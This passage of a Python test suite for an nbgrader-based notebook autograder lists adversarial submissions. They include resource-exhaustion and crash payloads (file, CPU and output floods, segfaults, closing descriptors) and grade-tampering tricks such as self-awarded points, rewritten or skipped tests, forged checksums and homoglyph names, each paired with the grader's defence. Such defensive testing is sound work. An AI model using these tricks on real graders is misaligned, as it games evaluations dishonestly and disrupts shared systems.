        "kept = [open(f'f{k}', 'w') for k in range(1000)]\n" + GOES_THROUGH,
        "a limit of open files",
        exact=True,
    ),
    exhaust(
        "processor_time",
        "burns processor time",
        "",
        "a limit of processor time",
        change=own(
            "import time\nend = time.process_time() + 2.6\nwhile time.process_time() < end:\n    pass\n" + GOES_THROUGH
        ),
        limits={"cpu_seconds": 2},
    ),
    exhaust(
        "output_flood",
        "prints 3 MB in one line",
        'print("went" + " through", "x" * 3_000_000)\nprint("y")',
        "a limit of a cell's output",
        proof="long",
        exact=True,
    ),
    exhaust(
        "output_lines",
        "prints a line ten thousand times",
        'for k in range(10000):\n    print("x" * 60)',
        "a limit of a cell's output",
        proof="long",
        exact=True,
    ),
    exhaust(
        "large_picture",
        "displays a PNG of 2 MB",
        "import base64\nfrom IPython.display import display\n"
        "display({'image/png': base64.b64encode(b'\\x89PNG\\r\\n\\x1a\\n' + bytes(2 * 10**6)).decode()}, raw=True)",
        "a limit of a cell's output",
        proof="long",
        exact=True,
    ),
    exhaust(
        "deep_result",
        "shows a list nested 10,000 deep",
        "deep = []\nfor _ in range(10000):\n    deep = [deep]\ndeep\n",
        "an error in displaying is an error of that cell",
        exact=True,
        shown=lambda folder: _recurses(repr),
    ),
    exhaust(
        "long_result",
        "shows a text of 450,000 characters",
        "'x' * 450_000",
        "a limit of a cell's output",
        proof="long",
        exact=True,
    ),
    exhaust(
        "thread_that_prints_on",
        "a thread prints into every later cell",
        """
            import threading, time
            def chatter():
                while True:
                    print("2.0")
                    time.sleep(0.001)
            threading.Thread(target=chatter, daemon=True).start()
            """,
        "a graded cell's own outputs are replaced",
        proof="in_graded",
        exact=True,
        shown="kernel",
    ),
    exhaust(
        "sleeping_everywhere",
        "sleeps to the limit in every cell",
        "",
        "wall time of a notebook",
        change=both(*(own("import time\ntime.sleep(0.4)" + ("\n" + GOES_THROUGH) * (k == 7)) for k in range(8))),
        limits={"cell_seconds": 2.0, "notebook_seconds": 2.5},
        proof="through",
    ),
    exhaust(
        "segmentation_fault",
        "reads where nothing is",
        "import ctypes\nctypes.string_at(1)",
        "a crash ends this run only",
        proof="died",
        shown="kernel",
    ),
    exhaust(
        "aborts", "calls abort", _LIBC + "libc.abort()", "a crash ends this run only", proof="died", shown="kernel"
    ),
    exhaust(
        "closes_pipe",
        "closes all descriptors",
        "import os\nos.closerange(0, 1000)\n",
        "a run without a pipe ends",
        proof="died",
        shown=lambda folder: (
            naive.by_last_line("answer = 42", folder) == 1.0
            and naive.by_last_line("answer = 42\nimport os\nos.closerange(0, 99)", folder) == 0.0
        ),
    ),
]


def _cannot_be_copied() -> bool:
    """Whether a judge fails that makes an array of what an answer says it is."""
    import torch

    try:
        torch.ones(1).expand(10**15).contiguous()
    except RuntimeError:
        return True
    return False


def _depth(thing: list[Any]) -> int:
    return 1 + max(map(_depth, thing), default=0)


def _recurses(walk: Callable[[Any], Any] = _depth) -> bool:
    """Whether code that walks a nested list by calling itself fails on a deep one."""
    deep: list[Any] = []
    for _ in range(10000):
        deep = [deep]
    try:
        walk(deep)
    except RecursionError:
        return True
    return False


def _removes_deep(folder: Path) -> bool:
    """Whether shutil.rmtree removes folders 3000 deep; whatever it leaves is removed here."""
    import os

    from grader.files import remove

    top, here = folder / "deep", os.getcwd()
    top.mkdir()
    os.chdir(top)
    for _ in range(3000):
        os.mkdir("a")
        os.chdir("a")
    os.chdir(here)
    gone = naive.removes(top)
    remove(top)
    assert not top.exists()
    return gone


def _locked_remains(folder: Path) -> bool:
    """The same for a folder without modes, which root removes all the same: then it shows nothing and passes."""
    import os

    from grader.files import remove

    top = folder / "locked"
    (top / "a" / "c").mkdir(parents=True)
    (top / "a" / "c" / "d").touch()
    (top / "a" / "c").chmod(0)
    gone = naive.removes(top)
    remove(top)
    assert not top.exists()
    return not gone or os.geteuid() == 0


# --- Confuse


def confuse(name: str, does: str, defence: str, **more: Any) -> Attack:
    return Attack(name, "confuse", does, defence, **{"proof": "unlike", "shown": "plain", **more})


def returns(name: str, does: str, value: str, shown: Callable[[Path], bool]) -> Attack:
    """An answer of an odd kind: a function that computes the truth ``g`` and returns something else."""
    return confuse(
        name,
        f"returns {does}",
        "the probe makes plain arrays of it, or says that it cannot",
        shown=shown,
        change=answer(
            f"def one_row(f, x, i):\n    y = f(x)\n    (g,) = torch.autograd.grad(y[i], x)\n    return {value}",
            "one_row",
        ),
        honest={"05-one_row": 0.0},
        proof="scored",
    )


def _naive_compare(make: Callable[[Any, Any], Any]) -> Callable[[Path], bool]:
    """Whether a plain comparison with the truth passes an odd value, or stops with an error that nobody expects."""

    def shown(folder: Path) -> bool:
        import numpy as np
        import torch

        truth = torch.tensor([1.0, 2.0, 3.0], dtype=torch.float64)
        try:
            result = make(torch, truth)
            wrong = np.abs(np.asarray(result, dtype=np.float64) - truth.numpy()) > 1e-6
            return not wrong.any()
        except Exception:
            return True

    return shown


def _copied(*ids: str) -> Change:
    """Cells once more at the end, with their metadata and other cell ids."""

    def change(nb: NotebookNode) -> None:
        for id in ids:
            again = deepcopy(nb.cells[place(nb, id)])
            again.id += "-again"
            nb.cells.append(again)

    return change


def _swap_ids(a: str, b: str) -> Change:
    def change(nb: NotebookNode) -> None:
        first, second = nb.cells[place(nb, a)], nb.cells[place(nb, b)]
        first.metadata.nbgrader.grade_id, second.metadata.nbgrader.grade_id = b, a

    return change


def _many_cells(nb: NotebookNode) -> None:
    nb.cells += [new_code_cell("import time\ntime.sleep(0.02)", id=f"more-{k}") for k in range(100)]


def _saved_output(nb: NotebookNode) -> None:
    nb.cells[place(nb, "05-transfer")].outputs = [
        new_output("execute_result", data={"text/plain": "2.0", "text/html": "<script>" + "x" * 20_000_000})
    ]


_CONFUSIONS = [
    confuse(
        "duplicate_graded",
        "a graded cell twice, with one grade_id",
        "of cells with one id the last counts",
        change=_copied("05-one_row"),
    ),
    confuse(
        "duplicate_answer",
        "an answer twice, with one grade_id",
        "of cells with one id the last counts",
        change=_copied(MIDDLE),
    ),
    confuse(
        "all_twice",
        "every cell of the notebook twice",
        "of cells with one id the last counts",
        change=_copied(*POINTS, *(f"answer-{id}" for id in POINTS)),
    ),
    confuse(
        "graded_deleted",
        "a resubmission without its graded cells, to keep an old score",
        "missing graded cells come back from the release version",
        base="wrong",
        change=without(*POINTS),
        proof="raised_or_missing",
    ),
    confuse(
        "graded_renamed",
        "a graded cell under another id",
        "unknown ids are the student's own cells",
        change=lambda nb: nb.cells[place(nb, "05-transfer")].metadata.nbgrader.update(grade_id="05-mine"),
    ),
    confuse(
        "ids_swapped",
        "the check of a solved question under the id of another one",
        "graded cells' sources go by their ids",
        base="wrong",
        proof="scored",
        honest={"05-one_row": 2.0},
        change=both(
            answer("def one_row(f, x, i):\n    y = f(x)\n    return torch.autograd.grad(y[i], x)[0]", "one_row"),
            _swap_ids("05-one_row", "05-rebuild_jacobian"),
        ),
    ),
    confuse(
        "future_schema",
        "metadata of nbgrader's schema version 99",
        "metadata comes from the release version",
        change=metadata(schema_version=99),
    ),
    confuse(
        "metadata_of_no_kind",
        "nbgrader's metadata are a number",
        "metadata comes from the release version",
        file=as_json(
            lambda d: (
                [c["metadata"].update(nbgrader=7) for c in d["cells"] if c["cell_type"] == "markdown"]
                and d["cells"][0]["metadata"].update(nbgrader=[1])
            )
        ),
    ),
    confuse(
        "hundred_points",
        "gives itself 100 points, and a check that displays them",
        "points come from the release version",
        base="wrong",
        proof="scored",
        change=both(metadata(points=100), cell("05-transfer", source="100.0")),
    ),
    confuse(
        "negative_points", "negative and odd points", "points come from the release version", change=metadata(points=-5)
    ),
    confuse(
        "unlocked_tests",
        "writes its own tests into unlocked graded cells",
        "graded cells' sources come from the release version",
        base="wrong",
        proof="scored",
        change=both(metadata(locked=False), cell("05-transfer", source="2.0")),
    ),
    confuse(
        "tests_emptied",
        "empties every graded cell",
        "graded cells' sources come from the release version",
        base="wrong",
        proof="scored",
        change=both(*(cell(id, source="") for id in POINTS)),
    ),
    confuse(
        "tests_commented",
        "comments a test out, with the same first line",
        "graded cells' sources come from the release version",
        base="wrong",
        proof="scored",
        change=cell("05-transfer", source="# check\n2.0"),
    ),
    confuse(
        "skip_tag",
        "tags graded cells skip-execution, with a saved output",
        "tags and saved outputs do not count",
        base="wrong",
        proof="scored",
        shown="kept",
        change=lambda nb: [
            cell.update(outputs=[new_output("execute_result", data={"text/plain": "1.0"})])
            or cell.metadata.update(tags=["skip-execution"])
            for cell in nb.cells
            if cell.metadata.get("nbgrader", {}).get("grade")
        ],
    ),
    confuse(
        "skip_tag_without_output",
        "tags graded cells skip-execution: no output is full marks in nbgrader",
        "tags do not count; silence is worth 0",
        base="wrong",
        proof="scored",
        shown="kept",
        change=lambda nb: [cell.metadata.update(tags=["skip-execution"]) for cell in nb.cells],
    ),
    confuse(
        "checksums_and_student",
        "forges checksums, and another student's id in the metadata",
        "metadata comes from the release version",
        change=metadata(checksum=["0"], student_id="ada", locked="maybe"),
    ),
    confuse(
        "retyped_markdown",
        "a graded cell becomes text, which a person must grade",
        "cell types come from the release version",
        change=lambda nb: nb.cells.__setitem__(
            place(nb, "05-transfer"), new_markdown_cell("2.0", metadata=nb.cells[place(nb, "05-transfer")].metadata)
        ),
    ),
    confuse(
        "retyped_raw",
        "an answer becomes raw text",
        "cell types come from the release version",
        file=as_json(
            lambda d: [
                (c.update(cell_type="raw"), c.pop("outputs"), c.pop("execution_count"))
                for c in d["cells"]
                if c["metadata"].get("nbgrader", {}).get("grade_id") == MIDDLE
            ]
        ),
    ),
    confuse(
        "graded_by_hand",
        "a graded cell that says it is a solution",
        "metadata comes from the release version",
        change=metadata(solution=True),
    ),
    confuse(
        "unknown_type",
        "cells of a type that does not exist",
        "such cells are text",
        file=as_json(lambda d: d["cells"][0].update(cell_type="video")),
    ),
    confuse(
        "kernelspec",
        "a kernel of another language",
        "notebook metadata come from the release version",
        file=as_json(lambda d: d["metadata"].update(kernelspec=["bash"])),
    ),
    confuse(
        "cells_of_no_kind",
        "numbers and nulls among the cells",
        "what is no cell is left out",
        file=as_json(lambda d: d["cells"].extend([None, 7, "x"])),
    ),
    confuse(
        "source_of_no_kind",
        "a cell whose source is a number",
        "what is no cell is left out",
        file=as_json(lambda d: d["cells"][2].update(source=7)),
    ),
    confuse(
        "not_utf8",
        "bytes that are not UTF-8",
        "such a file is worth 0, and the run goes on",
        file=lambda text: text.encode().replace(b"weighted", b"weighted \xff\xfe", 1),
        honest=NOTHING,
    ),
    confuse(
        "surrogates",
        "half of a surrogate pair in a cell's source",
        "what cannot be written is taken out",
        file=lambda text: text.replace("import torch", "import torch  # \\ud800", 1).encode(),
        proof="unwritable",
        shown="kept",
        exact=False,
    ),
    confuse(
        "truncated",
        "the first half of a file",
        "such a file is worth 0, and the run goes on",
        file=lambda text: text[: len(text) // 2].encode(),
        honest=NOTHING,
    ),
    confuse(
        "empty", "no bytes at all", "such a file is worth 0, and the run goes on", file=lambda text: b"", honest=NOTHING
    ),
    confuse(
        "deep_json",
        "JSON nested 100,000 deep",
        "such a file is worth 0, and the run goes on",
        file=lambda text: b"[" * 100_000,
        honest=NOTHING,
    ),
    confuse(
        "a_list",
        "JSON that is a list",
        "such a file is worth 0, and the run goes on",
        file=lambda text: b"[1, 2]",
        honest=NOTHING,
    ),
    confuse(
        "future_format",
        "nbformat 5",
        "such a file is worth 0, and the run goes on",
        file=as_json(lambda d: d.update(nbformat=5)),
        honest=NOTHING,
    ),
    confuse(
        "format_of_no_kind",
        "nbformat is NaN",
        "what can be read is graded",
        file=as_json(lambda d: d.update(nbformat=float("nan"))),
    ),
    confuse(
        "utf16_broken",
        "a file in UTF-16 that breaks off in the middle of a sign",
        "such a file is worth 0, and the run goes on",
        file=lambda text: text.encode("utf-16")[:-1],
        honest=NOTHING,
    ),
    confuse(
        "zip",
        "a zip archive under a notebook's name",
        "such a file is worth 0, and the run goes on",
        file=lambda text: b"PK\x03\x04" + bytes(99),
        honest=NOTHING,
    ),
    confuse(
        "saved_output",
        "20 MB of saved output with a script in it",
        "saved outputs are dropped",
        change=_saved_output,
        proof="heavy",
        shown="kept",
    ),
    confuse(
        "fifty_megabytes",
        "50 MB of text in one cell",
        "so much text is worth 0, in words, and the run goes on",
        change=lambda nb: nb.cells.append(new_markdown_cell("x" * 50_000_000)),
        honest=NOTHING,
        proof="heavy",
        shown="kept",
    ),
    confuse(
        "hundred_thousand_cells",
        "100,000 cells",
        "so many cells are worth 0, in words, and the run goes on",
        file=lambda text: text.replace(
            '"cells": [', '"cells": [' + '{"cell_type": "code", "source": "1"},' * 100_000
        ).encode(),
        honest=NOTHING,
        proof="all_of_them",
        shown="unlimited",
    ),
    confuse(
        "many_cells",
        "100 cells more, each of which takes its time",
        "wall time of a notebook",
        change=_many_cells,
        exact=False,
        limits={"notebook_seconds": 1.0},
        proof="all_ran",
        shown="unconfined",
    ),
    confuse(
        "null_byte",
        "a null byte in an answer",
        "what is no Python costs that answer only",
        change=answer("def one_row(f, x, i):\n    return '\0'", "one_row"),
        honest={"05-one_row": 0.0},
        proof="scored",
        shown=lambda folder: _naive_exec("x = '\0'"),
    ),
    confuse(
        "homoglyphs",
        "defines the function under a name that only looks the same",
        "a name that is missing costs that answer only",
        change=answer("def оne_row(f, x, i):\n    y = f(x)\n    return torch.autograd.grad(y[i], x)[0]", "one_row"),
        honest={"05-one_row": 0.0},
        proof="scored",
        shown=lambda folder: _naive_exec("def оne_row(): pass\none_row"),
    ),
    confuse(
        "cell_magic",
        "an answer under %%script",
        "there is no other program; the answer is missing",
        change=answer("%%script python\ndef one_row(f, x, i):\n    return x", "one_row"),
        honest={"05-one_row": 0.0},
        proof="scored",
        shown=lambda folder: _naive_exec("%%script python\nx"),
    ),
    returns("nan", "NaN", "g * float('nan')", _naive_compare(lambda t, g: g * float("nan"))),
    returns(
        "infinite",
        "infinities, which are within any share of themselves",
        "g / 0",
        lambda folder: abs(float("inf") - 1.0) <= 1e-6 * max(float("inf"), 1.0),
    ),
    returns(
        "overlapping",
        "a view whose entries lie upon each other, from which nothing can be subtracted in place",
        "(g + 1).as_strided(g.shape, (0,))",
        _naive_compare(lambda t, g: (g + 1).as_strided((3,), (0,)).sub_(g)),
    ),
    returns("dtype_half", "half precision", "g.half()", _naive_compare(lambda t, g: g.half())),
    returns("dtype_integer", "integers", "g.round().long()", _naive_compare(lambda t, g: g.round().long())),
    returns(
        "complex",
        "a complex tensor with the truth as its real part",
        "torch.complex(g, torch.ones_like(g))",
        _naive_compare(lambda t, g: t.complex(g, t.ones_like(g))),
    ),
    returns("meta", "a tensor without values", "g.to('meta')", _naive_compare(lambda t, g: g.to("meta"))),
    returns(
        "quantised",
        "a quantised tensor",
        "torch.quantize_per_tensor(g.float(), 0.1, 0, torch.qint8)",
        _naive_compare(lambda t, g: t.quantize_per_tensor(g.float(), 0.1, 0, t.qint8)),
    ),
    returns(
        "shape_column", "a column in place of a vector", "g[:, None]", _naive_compare(lambda t, g: g[:, None][:, 0])
    ),
    returns(
        "stride_zero",
        "one entry, spread by a stride of 0",
        "g[:1].expand(len(g)) * float('nan')",
        _naive_compare(lambda t, g: g[:1].expand(3) * float("nan")),
    ),
    returns(
        "generator", "a generator of the entries", "(entry for entry in g)", _naive_compare(lambda t, g: (e for e in g))
    ),
    returns(
        "lazy",
        "an object that becomes another array each time it is read",
        "type('Lazy', (), {'__array__': lambda self, *a, **k: g.numpy(), 'shape': g.shape})()",
        _naive_compare(lambda t, g: type("Lazy", (), {"__array__": lambda self, *a, **k: g.numpy()})()),
    ),
    returns("dictionary", "a dictionary", "{'g': g}", _naive_compare(lambda t, g: {"g": g})),
    returns(
        "raising_repr",
        "an object whose repr, str and class raise",
        "type('No', (), {'__repr__': lambda s: 1 / 0, '__getattribute__': lambda s, n: 1 / 0})()",
        _naive_compare(lambda t, g: type("No", (), {"__getattribute__": lambda s, n: 1 / 0})()),
    ),
]


def _naive_exec(source: str) -> bool:
    """Whether plain ``exec`` of a cell stops with an error."""
    try:
        exec(source, {})  # a constant of this file
    except Exception:
        return True
    return False


# --- Honest accidents


def accident(name: str, does: str, defence: str, **more: Any) -> Attack:
    return Attack(name, "accident", does, defence, **{"proof": "unlike", "shown": "plain", **more})


def _moved(id: str, before: str) -> Change:
    def change(nb: NotebookNode) -> None:
        moved = nb.cells.pop(place(nb, id))
        nb.cells.insert(place(nb, before), moved)

    return change


def _split(nb: NotebookNode) -> None:
    """An answer split in two: the front end gives both halves the metadata."""
    k = place(nb, "answer-05-rebuild_jacobian")
    second = deepcopy(nb.cells[k])
    nb.cells[k].source = "first_half = 1"
    second.id += "-split"
    nb.cells.insert(k + 1, second)


def _merged(nb: NotebookNode) -> None:
    """An answer merged with the check below it: one cell, with the metadata of the first."""
    k = place(nb, "05-one_row")
    nb.cells[k - 1].source += "\n\n" + nb.cells[k].source
    del nb.cells[k]


_ACCIDENTS = [
    accident("check_deleted", "deletes a check", "missing graded cells come back", change=without("05-scalar_trick")),
    accident(
        "answer_deleted",
        "deletes an answer",
        "the check says so; the others stand",
        change=without("answer-05-scalar_trick"),
        honest={"05-scalar_trick": 0.0},
        shown=lambda folder: _naive_exec("check('vjp.scalar_trick', weighted_gradient_by_a_number)"),
    ),
    accident(
        "cells_copied",
        "copies an answer and its check, by the front end's copy and paste",
        "of cells with one id the last counts",
        change=_copied(MIDDLE, "05-one_row"),
    ),
    accident("answer_split", "splits an answer", "of cells with one id the last counts", change=_split),
    accident("cells_merged", "merges an answer with its check", "missing graded cells come back", change=_merged),
    accident(
        "check_above_answer",
        "moves a check above its answer",
        "reordered cells are put back",
        change=_moved("05-one_row", MIDDLE),
    ),
    accident(
        "warning",
        "a warning on stderr in an answer",
        "stderr says nothing about an answer",
        change=answer(
            "import sys\ndef one_row(f, x, i):\n    print('careful', file=sys.stderr)\n    y = f(x)\n"
            "    return torch.autograd.grad(y[i], x)[0]",
            "one_row",
        ),
    ),
    accident(
        "leftover_input",
        "a leftover input()",
        "input ends at once; the next cells run",
        change=own("name = input('name? ')"),
        proof="died_or_raised",
        shown=lambda folder: naive.script("name = input()\nanswer = 42", folder)[0] != 0,
    ),
    accident(
        "crashed_half_way",
        "the process ends half way",
        "what was answered keeps its credit",
        change=own("import os\nos._exit(1)"),
        honest={id: 0.0 for id in POINTS if id not in BEFORE_MIDDLE},
    ),
    accident(
        "checks_name_reused",
        "uses the name check for something of its own",
        "the check cells are worth 0 by name, not a crash",
        change=own("check = 3"),
        honest={id: 0.0 for id in POINTS if id not in BEFORE_MIDDLE},
        shown=lambda folder: _naive_exec("check = 3\ncheck('vjp.one_row', 1)"),
    ),
    accident(
        "byte_order_mark",
        "saved by an editor that puts a byte order mark first",
        "read as utf-8-sig",
        file=lambda text: b"\xef\xbb\xbf" + text.encode(),
    ),
    accident(
        "windows_line_ends",
        "Windows line ends in the file, and an older format",
        "cells are made anew",
        file=lambda text: b"\xef\xbb\xbf" + text.replace("\n", "\r\n").encode(),
    ),
    accident(
        "extra_field",
        "a field that nbformat does not know",
        "cells are made anew",
        file=as_json(lambda d: [c.update(collapsed=True, tags=3) for c in d["cells"]]),
    ),
    accident(
        "stray_output",
        "outputs that a front end saved in a broken way",
        "saved outputs are dropped",
        file=as_json(
            lambda d: [c.update(outputs=[{"output_type": "stream"}]) for c in d["cells"] if c["cell_type"] == "code"]
        ),
    ),
    accident(
        "displays_in_check",
        "shows a text in a wrong answer, which nbgrader takes for full marks",
        "what an answer displays says nothing about it",
        base="wrong",
        proof="scored",
        change=answer(
            "import sys\ndef one_row(f, x, i):\n    sys.displayhook('looking')\n    return torch.zeros_like(x)",
            "one_row",
        ),
    ),
]

ATTACKS = [*_FAKES, *_FRAMES, *_STEALS, *_DAMAGES, *_EXHAUSTS, *_CONFUSIONS, *_ACCIDENTS]
